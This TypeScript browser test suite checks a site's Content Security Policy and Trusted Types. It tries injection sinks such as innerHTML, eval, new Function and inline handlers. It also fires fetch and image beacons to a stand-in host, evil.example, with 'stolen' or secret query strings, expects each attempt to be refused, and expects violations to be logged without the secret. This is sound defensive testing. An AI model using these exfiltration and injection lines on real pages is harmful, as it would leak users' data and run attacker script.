/** What a page refuses to whatever has got into it, and that whoever runs the server hears of it. */
import type { Page } from 'playwright-core'
import { afterAll, describe, expect, test } from 'vitest'
import { extent } from '../support/extent.ts'
import { openBrowser } from '../support/browser.ts'
import { stopServers } from '../support/server.ts'
import { startSite } from '../support/site.ts'
import { enterAs, sitDown, type SampleUser } from '../support/visitor.ts'

const [server, browser] = await Promise.all([
  startSite({ env: { LOG_LEVEL: 'warn' } }),
  openBrowser({ breaksPolicies: true }),
])
afterAll(stopServers)

/** By two addresses of the machine, since reports are counted by address and each attempt makes some. */
const at = (address: string) => `http://${address}:${new URL(server.url).port}`
const site = at('127.0.0.1')

/** Every way by which text becomes code or leaves the site, as code of the page itself. Each says what came of it. */
async function tryEverything(): Promise<Record<string, string>> {
  const ways: Record<string, () => unknown> = {
    'markup from text': () => (document.createElement('div').innerHTML = '<b>x</b>'),
    'markup beside an element': () => document.body.insertAdjacentHTML('beforeend', '<b>x</b>'),
    'a document from text': () => new DOMParser().parseFromString('<b>x</b>', 'text/html'),
    'a frame from text': () => (document.createElement('iframe').srcdoc = '<b>x</b>'),
    'a script named by text': () => (document.createElement('script').src = '/assets/x.js'),
    'a script from text': () => (document.createElement('script').text = 'hacked = 1'),
    'a handler from text': () => document.body.setAttribute('onclick', 'hacked = 1'),
    // oxlint-disable-next-line no-eval -- whether it works is the question
    'code from text': () => eval('1'),
    // oxlint-disable-next-line typescript/no-implied-eval -- what the policy must refuse
    'a function from text': () => new Function('return 1')(),
    'a rule that calls text safe': () => (window as any).trustedTypes.createPolicy('mine', {}),
    'such a rule for everything': () => (window as any).trustedTypes.createPolicy('default', {}),
    'a request to another site': () => fetch('https://evil.example/?stolen'),
    'a picture of another site': () =>
      new Promise((resolve, reject) =>
        Object.assign(new Image(), {
          onload: resolve,
          onerror: () => reject(new Error('no picture')),
          src: 'https://evil.example/?stolen',
        }),
      ),
    'a thread from text': () => new Worker(URL.createObjectURL(new Blob(['1']))),
  }
  const outcomes: Record<string, string> = {}
  for (const [name, way] of Object.entries(ways))
    outcomes[name] = await Promise.resolve()
      .then(way)
      .then(
        () => 'went through',
        () => 'refused',
      )
  return outcomes
}

/** Runs it in the page's own name: what a driver evaluates, no policy binds. */
async function outcomesOn(page: Page, path: string): Promise<Record<string, string>> {
  const { promise, resolve } = Promise.withResolvers<Record<string, string>>()
  await page.exposeFunction('tellOutcomes', resolve)
  await page.addInitScript(
    `addEventListener('load', () => setTimeout(async () => tellOutcomes(await (${tryEverything.toString()})()), 0))`,
  )
  await page.goto(site + path)
  return promise
}

type Reader = [path: string, who: SampleUser | null]
/** One of each policy, and then who shares it. */
const readers = extent<Reader>(
  [
    ['/', null],
    ['/dashboard', 'Investor'],
    ['/docs/api', null],
  ],
  [
    ['/login', null],
    ['/no/such/page', null],
    ['/admin', 'Admin'],
    ['/outbox', null],
    ['/outbox', 'Admin'],
  ],
)

describe('E1: no text becomes code, and nothing leaves the site', () => {
  test.each(readers)('on %s', async (path, who) => {
    const { context, page } = await sitDown(browser)
    if (who) await enterAs(page, site, who)
    const outcomes = await outcomesOn(page, path)
    expect(Object.keys(outcomes).length).toBeGreaterThan(10)
    expect(outcomes).toEqual(
      Object.fromEntries(Object.keys(outcomes).map((name) => [name, 'refused'])),
    )
    expect(await page.evaluate(() => 'hacked' in window)).toBe(false)
    await context.close()
  })
})

test('E1: these ways are open where no policy closes them', async () => {
  const { context, page } = await sitDown(browser)
  await page.route('**/open', (route) =>
    route.fulfill({ contentType: 'text/html', body: '<p>Open' }),
  )
  const outcomes = await outcomesOn(page, '/open')
  const open = Object.keys(outcomes).filter((name) => outcomes[name] === 'went through')
  expect(open).toEqual(Object.keys(outcomes).filter((name) => !name.endsWith('another site')))
  await context.close()
})

test('E4: what a page refused stands in the log of the server, and who was there doesn’t', async () => {
  const { context, page } = await sitDown(browser)
  const other = at('[::1]')
  await page.goto(`${other}/login?next=/a-secret-of-somebody`)
  await page.evaluate(() =>
    document.body.append(
      Object.assign(new Image(), { src: 'https://evil.example/seen.png?a-secret-of-somebody' }),
    ),
  )
  const told = () =>
    server
      .output()
      .stderr.split('\n')
      .filter((line) => line.includes('/seen.png'))
  await expect.poll(() => told().length).toBe(1)
  expect(JSON.parse(told()[0]!)).toMatchObject({
    event: 'policy-violation',
    page: `${other}/login`,
    directive: 'img-src',
    blocked: 'https://evil.example/seen.png',
  })
  expect(server.output().stderr).not.toContain('a-secret-of-somebody')
  await context.close()
})
